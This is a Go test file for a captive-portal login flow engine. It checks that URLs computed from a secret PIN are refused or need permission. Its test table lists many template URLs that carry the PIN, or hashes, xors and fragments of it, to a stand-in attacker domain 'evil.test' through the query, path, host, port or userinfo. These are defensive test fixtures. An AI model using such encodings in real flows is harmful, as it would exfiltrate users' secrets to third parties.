package flow

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"hotspot-helper/portal"
)

// The user keeps the PIN as a secret, and the flow does not call it one. A URL that is computed
// from it is a secret, too: it needs the user's permission, and no permission is enough for
// one with the secret in host or port.
func TestComputedSecretInURL(t *testing.T) {
	for name, c := range map[string]struct {
		url  string
		host bool
	}{
		"as it is":                      {`http://a.evil.test/?q={{.input.pin}}`, false},
		"hexadecimal":                   {`http://a.evil.test/?q={{.input.pin | hex}}`, false},
		"a digest":                      {`http://a.evil.test/?q={{.input.pin | md5 | hex}}`, false},
		"a part of a digest":            {`http://a.evil.test/?q=x{{replace (.input.pin | md5 | hex) "0" ""}}`, false},
		"xor, reversible":               {`http://a.evil.test/?q={{xor .input.pin "k" | hex}}`, false},
		"replace":                       {`http://a.evil.test/?q={{replace .input.pin "o" "o~"}}`, false},
		"in the path":                   {`http://a.evil.test/x{{upper (replace .input.pin "o" "")}}`, false},
		"setquery":                      {`{{setquery "http://a.evil.test/" "q" (xor .input.pin "k" | hex)}}`, false},
		"relative":                      {`/?q={{xor .input.pin "k" | hex}}`, false},
		"whether it is one":             {`http://a.evil.test/{{replace .input.pin "swordfish" "y"}}`, false},
		"the host":                      {`http://{{.input.pin}}/`, true},
		"a label":                       {`http://{{.input.pin}}.evil.test/`, true},
		"a part of a label":             {`http://x{{replace .input.pin "wordfish" ""}}y.evil.test/`, true},
		"a computed label":              {`http://{{xor .input.pin "k" | hex}}.evil.test/`, true},
		"the host, whole":               {`{{concat "http://" .input.pin ".evil.test/"}}`, true},
		"its length":                    {`http://{{xor .input.pin .input.pin | hex}}.evil.test/`, true},
		"the scheme":                    {`{{replace .input.pin "swordfish" "http"}}://a.evil.test/`, true},
		"the port":                      {`http://a.evil.test:{{replace .input.pin "swordfish" "8080"}}/`, true},
		"user and password":             {`http://{{.input.pin}}@a.evil.test/`, true}, // never sent, but it stands before the host
		"before the last @":             {`http://b.evil.test{{replace .input.pin "swordfish" ""}}@a.evil.test/`, true},
		"its class":                     {`https://x{{` + classOfPIN() + `}}.evil.test/`, true},
		"its class, and a random digit": {`https://a{{replace (random_hex 1) "g" "/"}}{{` + classOfPIN() + `}}.evil.test/`, true},
		"the host, resolved":            {`{{resolve "http://a.evil.test/" (concat "//" .input.pin ".evil.test/")}}`, true},
		"the host, setquery":            {`{{setquery (concat "http://" .input.pin ".evil.test/") "a" "b"}}`, true},
		"a path to a host":              {`/{{replace .input.pin "swordfish" "/b.evil.test/"}}`, true},
		"in a relative path":            {`/{{.input.pin}}/x`, false},
		"concat":                        {`{{concat "http://a.evil.test" "/" .input.pin}}`, false},
		"nothing of it":                 {`http://x{{replace .input.pin "swordfish" ""}}.evil.test/`, true},
		"a host after an @":             {`http://x@{{.input.pin}}.evil.test/`, true},
		"a host by backslash":           {`http:\\{{.input.pin}}.evil.test/`, true},
	} {
		for _, action := range []string{"open = '%s'", "post = '%s'\nform = { a = 'b' }", "wait = { open = '%s', every = 1, at_most = 1, until = [{ status = [200] }] }"} {
			for _, head := range []string{"[inputs.pin]\nprompt = 'P'\n", "secret_in_address = true\n[inputs.pin]\nprompt = 'P'\nsecret = true\n"} {
				f := mustParse(t, "format = 1\nhosts = ['*.evil.test', '@gateway', '@start']\n"+head+"[[step]]\nid = 'first'\nopen = 'http://a.evil.test/'\n[[step]]\nid = 'a'\n"+fmt.Sprintf(action, c.url))
				for _, cleartext := range []bool{false, true} {
					t.Run(name, func(t *testing.T) { checkComputed(t, f, c.host, cleartext) })
				}
			}
		}
	}
}

// classOfPIN is a template function of the class of the first character, letter or digit.
func classOfPIN() string {
	class := "slice .input.pin 0 1"
	for _, c := range "abcdefghijklmnopqrstuvwxyz0123456789" {
		by := "l"
		if c < 'a' {
			by = "d"
		}
		class = fmt.Sprintf("replace (%s) %q %q", class, string(c), by)
	}
	return class
}

func checkComputed(t *testing.T, f *Flow, host, cleartext bool) {
	const secret = "swordfish"
	handler := &answers{pages: map[string]answer{"GET /": html200("x"), "POST /": html200("x")}}
	asked := 0
	s, err := portal.New(portal.Config{
		Transport: handlerTransport{handler}, Hosts: []string{"*.evil.test", secret},
		Permission:   func() portal.Permission { return portal.Permission{Cleartext: cleartext} },
		BeforeSecret: func(portal.Destination) error { asked++; return nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	_, err = f.Run(t.Context(), s, Env{
		Terms: agreed, Sleep: func(context.Context, time.Duration) error { return nil },
		Inputs: inputs(map[string]string{"pin": secret}, "pin"),
	})
	sent, may := len(handler.got) > 1, cleartext && !host
	_, refused := errors.AsType[*portal.SecretError](err)
	if sent != may || (asked > 0) != may || !may && (err == nil || refused == host) {
		t.Errorf("cleartext %v: sent %q, asked %d times, %v", cleartext, handler.got, asked, err)
	}
	if host && !strings.Contains(fmt.Sprint(err), "a secret is not allowed in the host or port of a URL") {
		t.Errorf("got %v", err)
	}
	if text := fmt.Sprint(err, s.Trace()); strings.Contains(text, secret) || strings.Contains(text, "SWRDFISH") {
		t.Errorf("shown in %s", text)
	}
}

// The name of a field is no secret: traces show names.
func TestSecretInName(t *testing.T) {
	for _, step := range []string{
		"form = { 'x{{md5 .input.pin | hex}}' = 'b' }", "json = { a = { '{{md5 .input.pin | hex}}' = 'b' } }",
	} {
		f := mustParse(t, "format = 1\nhosts = ['a.test']\ninputs.pin = { prompt = 'P' }\n[[step]]\nid = 'a'\npost = 'http://a.test/'\n"+step+"\n")
		for secret, kept := range map[bool][]string{true: {"pin"}, false: nil} {
			handler := &answers{pages: map[string]answer{"POST /": html200("x")}}
			_, err := f.Run(t.Context(), newSession(t, f, handler), Env{Inputs: inputs(map[string]string{"pin": "swordfish"}, kept...)})
			if refused := errors.Is(err, errSecret); refused != secret || len(handler.got) > 0 == secret {
				t.Errorf("%s, secret %v: %v, sent %q", step, secret, err, handler.got)
			}
		}
	}
}

// Each step of a computation is a secret, also if only its end is sent: the portal cannot make the
// session repeat it elsewhere.
func TestComputedSecretIsNotRepeated(t *testing.T) {
	const digest = "15b29ffdce66e10527a65bc6d71ad94d" // MD5 of swordfish
	f := mustParse(t, "format = 1\nhosts = ['a.test']\ninputs.pin = { prompt = 'P', secret = true }\n[[step]]\nid = 'a'\npost = 'https://a.test/'\nform = { p = '{{concat \"user:\" (.input.pin | md5 | hex)}}' }\n")
	handler := &answers{pages: map[string]answer{
		"POST /": {status: 302, header: map[string]string{"Location": "http://a.test/?d=" + digest}}, "GET /": html200("x"),
	}}
	s := newSession(t, f, handler)
	if _, err := f.Run(t.Context(), s, Env{Inputs: inputs(map[string]string{"pin": "swordfish"})}); err != nil {
		t.Fatal(err)
	}
	if len(handler.got) != 1 || !strings.Contains(handler.got[0], digest) || !s.ContainsSecret(digest) {
		t.Errorf("sent %q", handler.got)
	}
}

// Other values in place of those of the references decide what a text depends on.
func TestShift(t *testing.T) {
	for text, want := range map[string]string{
		"abf": "bca", "ABF": "BCA", "gyz": "hzg", "GYZ": "HZG", "0189": "1290", "a-b=": "b-c=", "": "x", "=": "=x", "\xc3\xa9": "\xc2\xa8",
	} {
		if got := shift(text, 1); got != want {
			t.Errorf("shift(%q) = %q, want %q", text, got, want)
		}
		if shift(text, 2) == text || shift(text, 2) == want {
			t.Errorf("shift(%q, 2) = %q", text, shift(text, 2))
		}
	}
}
